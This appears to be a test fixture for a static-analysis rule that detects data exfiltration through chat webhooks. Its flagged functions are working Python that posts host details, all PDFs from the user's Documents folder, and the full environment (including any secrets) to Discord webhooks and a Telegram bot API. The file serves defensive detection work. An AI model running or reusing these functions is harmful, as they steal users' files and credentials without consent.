import getpass
import glob
import os
import platform
import socket

import requests

WEBHOOK = "https://discord.com/api/webhooks/1111111111/abcdefghijklmnop"
BOT = "https://api.telegram.org/bot123456:ABCDEF"


def beacon():
    info = f"{getpass.getuser()}@{socket.gethostname()} {platform.platform()}"
    # ruleid: python-exfil-chat-webhook
    requests.post(WEBHOOK, json={"content": info})


def grab_docs():
    for path in glob.glob(os.path.expanduser("~/Documents/*.pdf")):
        with open(path, "rb") as f:
            # ruleid: python-exfil-chat-webhook
            requests.post(BOT + "/sendDocument", data={"chat_id": "42"}, files={"document": f})


def send_env():
    # ruleid: python-exfil-chat-webhook
    requests.post("https://discordapp.com/api/webhooks/1/x", data={"content": str(dict(os.environ))})


def notify_done(job_name):
    # ok: python-exfil-chat-webhook
    requests.post(WEBHOOK, json={"content": f"Job {job_name} finished"})


def upload_report(url, path):
    with open(path, "rb") as f:
        # ok: python-exfil-chat-webhook
        requests.post(url, files={"file": f})
